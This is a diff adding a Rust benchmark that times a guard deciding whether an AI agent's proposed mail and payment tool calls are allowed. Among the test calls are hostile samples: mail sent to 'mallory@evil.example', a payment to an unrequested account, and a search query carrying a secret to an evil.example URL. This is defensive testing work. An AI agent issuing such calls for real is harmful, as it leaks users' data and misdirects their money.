@@ -1,0 +1,102 @@
+//! Times `decide` alone, with 200 turns and 1 MB of tool results folded, and prints percentiles as JSON.
+//!
+//! `cargo run --release -p steersman-flow --example decision_bench > bench/runs/guard.json`
+
+use std::sync::Arc;
+use std::time::Instant;
+
+use serde_json::{Value, json};
+use steersman_flow::{Guard, Policy, ProposedCall, Tool, Toolbox};
+
+const TURNS: usize = 200;
+const CONTEXT_BYTES: usize = 1 << 20;
+const ROUNDS: usize = 20_000;
+
+fn tool(contract: Value, said: &str, properties: &Value) -> Result<Tool, serde_json::Error> {
+    Ok(Tool::new(serde_json::from_value(contract)?, said, &json!({"type": "object", "properties": properties})))
+}
+
+fn guard() -> Result<Guard, serde_json::Error> {
+    let text = json!({"type": "string"});
+    let tools = Toolbox::new([
+        tool(
+            json!({"name": "search_mail", "effect": "read", "attested": ["id", "from", "size"]}),
+            "Search mail.",
+            &json!({"query": text}),
+        )?,
+        tool(
+            json!({"name": "send_mail", "effect": "irreversible", "sink": ["to"], "content": ["body"]}),
+            "Send a mail.",
+            &json!({"to": text, "body": text}),
+        )?,
+        tool(
+            json!({"name": "delete_mail", "effect": "irreversible", "sink": ["id"]}),
+            "Delete a mail.",
+            &json!({"id": text}),
+        )?,
+        tool(
+            json!({"name": "pay_invoice", "effect": "irreversible", "sink": ["account", "amount"]}),
+            "Pay an invoice.",
+            &json!({"account": text, "amount": {"type": "number"}}),
+        )?,
+    ]);
+    let mut guard = Guard::new(Arc::new(tools), Arc::new(Policy::default()));
+    guard.push_system("You are an assistant for mail.");
+    guard.push_user("Find mails about the harbour, delete the largest one, pay 10 % more than last time to ACC-1, then send a summary to mira@home.example.");
+    Ok(guard)
+}
+
+/// Folds the turns; gives the bytes that were folded.
+fn fold(guard: &mut Guard) -> usize {
+    let mut folded = 0;
+    for turn in 0..TURNS {
+        let rows: Vec<Value> = (0..20).map(|row| json!({
+            "id": format!("m-{}", turn * 20 + row), "from": format!("p{row}@corp.example"), "size": turn * 31 + row * 17,
+            "body": format!("Dear reader {row}, {} see https://news.example/{turn}/{row}. ", "the harbour works go on as planned; ".repeat(6)),
+        })).collect();
+        let result = Value::Array(rows);
+        folded += result.to_string().len();
+        let id = format!("c{turn}");
+        guard.push_assistant("I shall look further.");
+        guard.push_tool_call(&id, "search_mail", &json!({"query": "harbour"}));
+        guard.push_tool_result(&id, &result);
+    }
+    folded
+}
+
+fn calls() -> [ProposedCall; 8] {
+    let body = "A summary of the harbour works. ".repeat(30);
+    [
+        ProposedCall::new("send_mail", json!({"to": "mira@home.example", "body": body})),
+        ProposedCall::new("send_mail", json!({"to": "mallory@evil.example", "body": "harbour"})),
+        ProposedCall::new("delete_mail", json!({"id": "m-3999"})),
+        ProposedCall::new("delete_mail", json!({"id": "m-12"})),
+        ProposedCall::new("pay_invoice", json!({"account": "ACC-1", "amount": 110.0})),
+        ProposedCall::new("pay_invoice", json!({"account": "ACC-9", "amount": 110.0})),
+        ProposedCall::new("search_mail", json!({"query": "https://evil.example/?d=secret"})),
+        ProposedCall::new("unknown_tool", json!({"x": "harbour"})),
+    ]
+}
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    let mut guard = guard()?;
+    let start = Instant::now();
+    let folded = fold(&mut guard);
+    let fold_us_per_turn = start.elapsed().as_micros() / TURNS as u128;
+    assert!(folded >= CONTEXT_BYTES, "only {folded} bytes");
+    let mut times = Vec::with_capacity(ROUNDS);
+    for call in calls().iter().cycle().take(ROUNDS) {
+        let start = Instant::now();
+        std::hint::black_box(guard.decide(std::slice::from_ref(call)));
+        times.push(u64::try_from(start.elapsed().as_nanos())?);
+    }
+    times.sort_unstable();
+    let at = |part: f64| times.get((times.len() as f64 * part) as usize).copied().unwrap_or_default() as f64 / 1000.0;
+    let report = json!({
+        "what": "Guard::decide of one call, all context folded", "turns": TURNS, "context_bytes": folded, "rounds": ROUNDS,
+        "decision_us_p50": at(0.5), "decision_us_p90": at(0.9), "decision_us_p99": at(0.99), "fold_us_per_turn": fold_us_per_turn,
+        "command": "cargo run --release -p steersman-flow --example decision_bench",
+    });
+    println!("{}", serde_json::to_string_pretty(&report)?);
+    Ok(())
+}
